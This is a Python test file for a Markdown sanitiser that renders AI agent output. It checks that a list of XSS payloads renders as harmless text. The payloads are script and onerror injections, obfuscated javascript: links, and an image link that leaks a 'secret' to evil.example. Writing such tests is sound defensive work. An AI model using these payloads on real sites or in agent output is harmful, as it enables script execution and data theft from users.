"""Agent text as Markdown: what is allowed reads well, and nothing else survives."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from hitl_site.lib import safe_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](/logout/)",
    "[x](http://evil.example)",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[a]: javascript:alert(1)\n\n[a]",
    '<a href="https://a.example" hx-get="/x" onclick="x">x</a>',
    '<div hx-get="/x" hx-trigger="load" style="position:fixed" class="btn" id="main">x</div>',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|:-:|\n| <b onclick=x>c</b> |",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- --><style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><button>x</button></form>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


class Inventory(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, "", ""))
        self.found.extend((tag, name, value or "") for name, value in attrs)


def assert_harmless(rendered: str) -> None:
    inventory = Inventory()
    inventory.feed(rendered)
    for tag, name, value in inventory.found:
        assert tag not in {
            "script",
            "style",
            "img",
            "svg",
            "iframe",
            "form",
            "input",
            "div",
            "math",
            "object",
        }
        assert (tag, name) in {(tag, ""), ("a", "href"), ("a", "rel"), ("ol", "start")}
        if name == "href":
            assert value.lower().startswith(("https://", "mailto:"))


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_stays_text(text: str) -> None:
    assert_harmless(safe_markdown.render(text))


@given(
    st.one_of(
        st.text(max_size=80),
        st.lists(
            st.sampled_from([*ATTACKS, "\n", "\n\n", "> ", "- ", "*", "`", "[", "](", ")"]), max_size=6
        ).map("".join),
    )
)
@example("\ud800")
@example("\x00")
def test_no_text_at_all_gets_through_the_list(text: str) -> None:
    assert_harmless(safe_markdown.render(text))


def test_ordinary_markdown_reads_well() -> None:
    rendered = safe_markdown.render(
        "# Plan\n\n1. *pay*\n2. **stop** ~~now~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    for part in (
        "<p><strong>Plan</strong></p>",
        "<em>pay</em>",
        "<strong>stop</strong>",
        "<s>now</s>",
        "<td>1</td>",
    ):
        assert part in rendered


def test_a_link_shows_its_whole_address_behind_its_words() -> None:
    rendered = safe_markdown.render("[your bank](https://evil.example/?next=bank)")
    assert rendered == (
        '<p><a href="https://evil.example/?next=bank" rel="noopener noreferrer nofollow">your bank</a>'
        " (https://evil.example/?next=bank)</p>\n"
    )
    assert safe_markdown.render("<https://a.example/>").count("https://a.example/") == 2
    assert safe_markdown.render("<ada@a.example>").count("ada@a.example") == 2


def test_an_image_is_words_and_never_loaded() -> None:
    assert safe_markdown.render("![chart](https://evil.example/p.png)") == (
        "<p>image: https://evil.example/p.png (chart)</p>\n"
    )


def test_hidden_characters_are_named() -> None:
    name = "<mark>⟦U+202E RIGHT-TO-LEFT OVERRIDE⟧</mark>"
    assert safe_markdown.render("a\u202eb") == f"<p>a{name}b</p>\n"
    assert safe_markdown.render("`a\u202eb`") == f"<p><code>a{name}b</code></p>\n"
    assert name in safe_markdown.render("```\na\u202eb\n```")


def test_a_very_long_text_comes_as_plain_text() -> None:
    rendered = safe_markdown.render("*a* " * 30_000)
    assert rendered.startswith("<pre>*a* *a*")
    assert "<em>" not in rendered
